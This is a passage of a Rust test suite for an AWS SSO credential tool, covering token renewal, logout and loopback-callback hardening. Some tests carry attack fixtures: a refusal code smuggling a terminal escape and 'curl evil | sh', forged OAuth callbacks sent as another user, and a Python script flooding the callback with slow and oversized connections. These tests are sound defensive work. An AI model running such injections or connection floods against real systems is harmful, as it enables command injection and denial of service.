    let access = sso.token("corp")["accessToken"]
        .as_str()
        .unwrap()
        .to_string();
    let refreshes = sso.refreshes();
    sso.in_private_mounts(&format!(
        "{FULL_TOKEN_DIRECTORY}run 3 assume --json --no-input --no-cache sso-dev\n"
    ));
    let valid = sso.inside(3);
    assert_eq!(valid.status, 0, "{}", valid.stderr);
    assert!(
        valid.stderr.contains("was not renewed") && valid.stderr.contains("2 more minute(s)"),
        "{}",
        valid.stderr
    );
    assert_eq!(sso.refreshes(), refreshes);
    assert_eq!(sso.portal_calls().last().unwrap().1, access);
}

#[test]
fn a_read_only_token_directory_spends_no_refresh_token_and_a_valid_token_still_serves() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    let refreshes = sso.refreshes();
    sso.expire_token("corp");
    let expired = std::fs::read(sso.token_file("corp")).unwrap();
    let read_only = "mount --bind -o ro \"$CACHE\" \"$CACHE\"\n";
    sso.in_private_mounts(&format!(
        "{read_only}run 1 assume --json --no-input --no-cache sso-dev\n"
    ));
    let refused = sso.inside(1);
    assert_eq!(refused.status, 1, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("Read-only file system")
            && refused.stderr.contains("its refresh token was not used"),
        "{}",
        refused.stderr
    );
    assert_eq!(refused.token, expired);
    assert_eq!(sso.refreshes(), refreshes);
    // As a container that mounts ~/.aws read-only sees it: a token with minutes left serves.
    sso.token_expiring_in(120);
    let access = sso.token("corp")["accessToken"]
        .as_str()
        .unwrap()
        .to_string();
    sso.in_private_mounts(&format!(
        "{read_only}run 2 assume --json --no-input --no-cache sso-dev\n"
    ));
    let valid = sso.inside(2);
    assert_eq!(valid.status, 0, "{}", valid.stderr);
    assert_eq!(sso.portal_calls().last().unwrap().1, access);
    assert_eq!(sso.refreshes(), refreshes);
}

#[test]
fn a_renewed_token_that_cannot_be_saved_serves_the_run_and_the_old_file_stays() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    let expired = std::fs::read(sso.token_file("corp")).unwrap();
    let old_access = sso.token("corp")["accessToken"]
        .as_str()
        .unwrap()
        .to_string();
    // A mount on the file itself: the directory takes new files, but nothing renames onto it.
    sso.in_private_mounts(
        "mount --bind \"$TOKEN\" \"$TOKEN\"\nrun 1 assume --json --no-input --no-cache sso-dev\n",
    );
    let run = sso.inside(1);
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("the renewed token of sso-session `corp` could not be saved"),
        "{}",
        run.stderr
    );
    assert_eq!(run.token, expired, "the old file was not kept");
    let used = sso.portal_calls().last().unwrap().1.clone();
    assert_ne!(used, old_access, "the run did not use the renewed token");
    assert!(used.starts_with("access-"), "{used}");
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(json["AWS_ACCESS_KEY_ID"], ACCESS_KEY_ID);
}

/// A client that refreshes the login's token as botocore does, but slowly: it spends the
/// refresh token, then writes the file in place (emptied, then the text) with a pause halfway.
const SLOW_CLIENT: &str = r#"
import json, sys, time, urllib.request
path, endpoint = sys.argv[1], sys.argv[2]
token = json.load(open(path))
body = json.dumps({"clientId": token["clientId"], "clientSecret": token["clientSecret"],
                   "grantType": "refresh_token", "refreshToken": token["refreshToken"]}).encode()
request = urllib.request.Request(endpoint + "/token", data=body,
                                 headers={"Content-Type": "application/json"})
answer = json.load(urllib.request.urlopen(request, timeout=10))
token.update(accessToken=answer["accessToken"], refreshToken=answer["refreshToken"],
             expiresAt=time.strftime("%Y-%m-%dT%H:%M:%SZ",
                                     time.gmtime(time.time() + answer["expiresIn"])))
text = json.dumps(token)
with open(path, "r+") as f:
    f.truncate(0)
    f.write(text[:40])
    f.flush()
    time.sleep(0.5)
    f.write(text[40:])
print(answer["accessToken"])
"#;

#[test]
fn a_client_that_wins_the_refresh_and_writes_slowly_is_waited_for_not_a_new_login() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    // rolecall's refresh is held until the other client has spent the same refresh token.
    sso.portal.script(|s| s.hold_first_refresh = true);
    let refreshes = sso.refreshes();
    let assume = sso
        .rolecall(&["assume", "--json", "--no-input", "--no-cache", "sso-dev"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while sso.refreshes() == refreshes {
        assert!(started.elapsed().as_secs() < 20, "rolecall never refreshed");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let mut client = sso.world.command(common::test_python());
    client
        .args(["-c", SLOW_CLIENT])
        .arg(sso.token_file("corp"))
        .arg(&sso.portal.endpoint);
    let other = Run::of(client).success();
    let output = assume.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    assert_eq!(
        sso.portal_calls().last().unwrap().1,
        other.stdout.trim(),
        "rolecall did not use the other client's token"
    );
    assert_eq!(sso.token("corp")["accessToken"], other.stdout.trim());
}

#[test]
fn logout_during_a_renewal_waits_for_it_and_no_token_comes_back() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    sso.portal.script(|s| s.refresh_delay_ms = 1500);
    let refreshes = sso.refreshes();
    let assume = sso
        .rolecall(&["assume", "--json", "--no-input", "--no-cache", "sso-dev"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while sso.refreshes() == refreshes {
        assert!(started.elapsed().as_secs() < 20, "rolecall never refreshed");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    Run::of(sso.rolecall(&["sso", "logout", "sso-dev"])).success();
    let output = assume.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        !sso.token_file("corp").exists(),
        "the renewal wrote its token back after the logout"
    );
    // The portal ended the renewed token, the one the assume used.
    assert_eq!(
        sso.portal.calls_to("/logout").last().unwrap().token,
        sso.portal_calls().last().unwrap().1
    );
}

#[test]
fn with_a_read_only_cache_directory_concurrent_renewals_still_take_turns() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    // Slow enough that every assume has asked before the first is answered, were they not
    // taking turns.
    sso.portal.script(|s| s.refresh_delay_ms = 500);
    let refreshes = sso.refreshes();
    sso.in_private_mounts(
        "mkdir -p \"$HOME/.cache/rolecall\"\n\
         mount --bind -o ro \"$HOME/.cache/rolecall\" \"$HOME/.cache/rolecall\"\n\
         for n in 1 2 3 4 5 6; do run $n assume --json --no-input --no-cache sso-dev & done\n\
         wait\n",
    );
    for n in 1..=6 {
        let run = sso.inside(n);
        assert_eq!(run.status, 0, "assume {n}: {}", run.stderr);
    }
    assert_eq!(
        sso.refreshes(),
        refreshes + 1,
        "the assumes did not take turns"
    );
}

/// A browser that, once it has the private page, has another user (uid 65534, through
/// `setpriv`) send `forgeries` to the loopback callback first, noting each answer's status, and
/// then signs in as `browser` does. The forgeries name the callback as `CALLBACK`.
fn forging_browser(sso: &SsoWorld, forgeries: &[&str]) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let script = sso.world.home().join("forging-browser");
    let log = sso.world.home().join("forged.log");
    let forged: Vec<String> = forgeries.iter().map(|f| format!("{f:?}")).collect();
    std::fs::write(
        &script,
        format!(
            "#!/usr/bin/env python3\n{}\nimport subprocess\n\
             url = target_of(sys.argv[1], {log:?})\n\
             redirect = urllib.parse.parse_qs(urllib.parse.urlparse(url).query)['redirect_uri'][0]\n\
             for forged in [{}]:\n\
             \x20   status = subprocess.run(['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups',\n\
             \x20       'curl', '-s', '-m', '5', '-o', '/dev/null', '-w', '%{{http_code}}', forged.replace('CALLBACK', redirect)],\n\
             \x20       capture_output=True, text=True).stdout\n\
             \x20   open({log:?}, 'a').write(status + '\\n')\n\
             urllib.request.urlopen(url, timeout=20).read()\n",
            crate::common::READ_PAGE_PY,
            forged.join(", "),
            log = log.display().to_string()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    script
}

#[test]
fn a_callback_forged_by_another_user_is_refused_and_the_login_goes_on() {
    let sso = sso_world();
    // The attacker knows the port (/proc/net/tcp lists it) but not the state.
    let forgeries = [
        "CALLBACK?code=forged&state=guessed",
        "CALLBACK?error=access_denied&error_description=Re-enroll&state=guessed",
        "CALLBACK?code=forged",
    ];
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command.env("BROWSER", forging_browser(&sso, &forgeries));
    let run = Run::of(command).success();
    let answers = std::fs::read_to_string(sso.world.home().join("forged.log")).unwrap();
    assert_eq!(answers, "400\n400\n400\n", "{}", run.stderr);
    assert!(!run.stderr.contains("Re-enroll"), "{}", run.stderr);
    // The token is the one issued for the browser's own code.
    let codes: Vec<String> = sso
        .portal
        .calls_to("/token")
        .iter()
        .map(|call| call.body.clone())
        .collect();
    assert!(
        codes.iter().all(|body| !body.contains("forged")),
        "{codes:?}"
    );
    assert!(sso.token("corp")["accessToken"].is_string());
}

#[test]
fn a_refused_sign_in_says_oauths_code_and_never_the_pages_own_words() {
    for (code, said) in [
        (
            "access_denied",
            "the sign-in was refused (access_denied: declined in the browser)",
        ),
        (
            "temporarily_unavailable",
            "(temporarily_unavailable: the service is busy; try again shortly)",
        ),
        (
            "run\u{1b}]0;this: curl evil | sh",
            "the sign-in was refused (with an error code that is not OAuth's)",
        ),
    ] {
        let sso = sso_world();
        sso.portal.script(|s| {
            s.decline = true;
            s.refusal_code = code;
        });
        let run = Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).failure(1);
        for words in ["Re-enroll", "evil", "curl", "\\x1b", "\u{1b}"] {
            assert!(!run.stderr.contains(words), "{code}: {}", run.stderr);
        }
        run.stderr_has(said);
        assert!(!sso.token_file("corp").exists());
    }
}

#[test]
fn no_authorize_url_is_on_any_command_line_and_its_page_is_private_and_removed() {
    let sso = sso_world();
    let log = sso.world.home().join("slow.log");
    // A browser that takes a moment to start, during which every command line is read.
    let slow =
        crate::common::page_browser(&sso.world, &log, true, std::time::Duration::from_secs(1));
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command
        .env("BROWSER", &slow)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let child = command.spawn().unwrap();
    let (status, seen) = crate::common::command_lines_while_running(child, "code_challenge");
    assert!(status.success());
    assert!(seen.is_empty(), "on a command line: {seen:?}");
    let opened = std::fs::read_to_string(&log).unwrap();
    assert!(opened.contains("code_challenge="), "{opened}");
    assert!(!opened.contains("failed:"), "{opened}");
    assert!(sso.token("corp")["accessToken"].is_string());
    assert_eq!(
        crate::common::assert_pages_private_and_removed(sso.world.home()),
        1
    );
}

#[test]
fn ctrl_c_while_the_browser_has_the_private_page_removes_it() {
    let sso = sso_world();
    let log = sso.world.home().join("idle.log");
    // A browser that reads the page and goes no further, as a person who walks away.
    let idle = common::page_browser(&sso.world, &log, false, std::time::Duration::ZERO);
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command
        .env("BROWSER", &idle)
        .stderr(std::process::Stdio::null());
    let mut child = command.spawn().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !log.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the browser never read the page"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // SAFETY: a signal to a process this test started.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = child.wait().unwrap();
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}");
    assert_eq!(
        common::assert_pages_private_and_removed(sso.world.home()),
        1
    );
}

/// Run as uid 65534 against the loopback port given as argv[1]: 20 connections that send a
/// callback's first line and then a byte a second, and one whose head outgrows any callback's,
/// all at once; prints "ready" once they are in, then, for each, the seconds until rolecall
/// closed it (at most 15: still open then).
const SLOW_CALLBACKS_PY: &str = r#"
import socket, sys, time
port = int(sys.argv[1])
start = time.monotonic()
slow = [socket.create_connection(('127.0.0.1', port)) for _ in range(20)]
for s in slow:
    s.sendall(b'GET /oauth/callback?code=x&state=x HTTP/1.1\r\nHost: 127.0.0.1\r\n')
big = socket.create_connection(('127.0.0.1', port))
try:
    big.sendall(b'GET /oauth/callback?' + b'a' * 40000 + b' HTTP/1.1\r\n')
except OSError:
    pass
print('ready', flush=True)
closed = {}
while len(closed) < len(slow) + 1 and time.monotonic() - start < 15:
    for index, s in enumerate(slow + [big]):
        if index in closed:
            continue
        try:
            s.settimeout(0.01)
            if s.recv(65536) == b'':
                closed[index] = time.monotonic() - start
        except socket.timeout:
            try:
                if index < len(slow):
                    s.sendall(b'X')
            except OSError:
                closed[index] = time.monotonic() - start
        except OSError:
            closed[index] = time.monotonic() - start
    time.sleep(1)
print(' '.join('%.0f' % closed.get(i, 99) for i in range(len(slow) + 1)), flush=True)
"#;

#[test]
fn slow_and_oversized_callbacks_from_another_user_neither_hold_up_nor_end_the_login() {
    use std::os::unix::fs::PermissionsExt;
    let sso = sso_world();
    let attack = sso.world.home().join("slow_callbacks.py");
    std::fs::write(&attack, SLOW_CALLBACKS_PY).unwrap();
    let log = sso.world.home().join("attack.log");
    let script = sso.world.home().join("attacked-browser");
    // The browser, once it has the page, lets the other user in first and signs in once the
    // other user is done.
    std::fs::write(
        &script,
        format!(
            "#!/usr/bin/env python3\n{}\nimport subprocess\n\
             url = target_of(sys.argv[1], {log:?})\n\
             redirect = urllib.parse.parse_qs(urllib.parse.urlparse(url).query)['redirect_uri'][0]\n\
             port = str(urllib.parse.urlparse(redirect).port)\n\
             attacker = subprocess.Popen(['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups',\n\
             \x20   sys.executable, '-c', open({attack:?}).read(), port], stdout=subprocess.PIPE, text=True)\n\
             attacker.stdout.readline()\n\
             open({log:?}, 'a').write(attacker.stdout.readline())\n\
             urllib.request.urlopen(url, timeout=20).read()\n\
             open({log:?}, 'a').write('signed in\\n')\n",
            crate::common::READ_PAGE_PY,
            log = log.display().to_string(),
            attack = attack.display().to_string(),
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command
        .env("BROWSER", &script)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let status = common::wait_at_most(command.spawn().unwrap(), Duration::from_secs(60));
    assert!(status.success(), "{status:?}");
    assert!(sso.token("corp")["accessToken"].is_string());
    // Each of the other user's connections was closed by rolecall, all at once, within the
    // deadline, while the login went on; none of them ended it.
    let text = std::fs::read_to_string(&log).unwrap();
    let mut lines = text.lines();
    let closed: Vec<u32> = lines
        .next()
        .unwrap_or_else(|| panic!("{text}"))
        .split(' ')
        .map(|s| s.parse().unwrap())
        .collect();
    assert_eq!(closed.len(), 21, "{text}");
    assert!(closed.iter().all(|seconds| *seconds <= 10), "{text}");
    assert_eq!(lines.next(), Some("signed in"), "{text}");
}
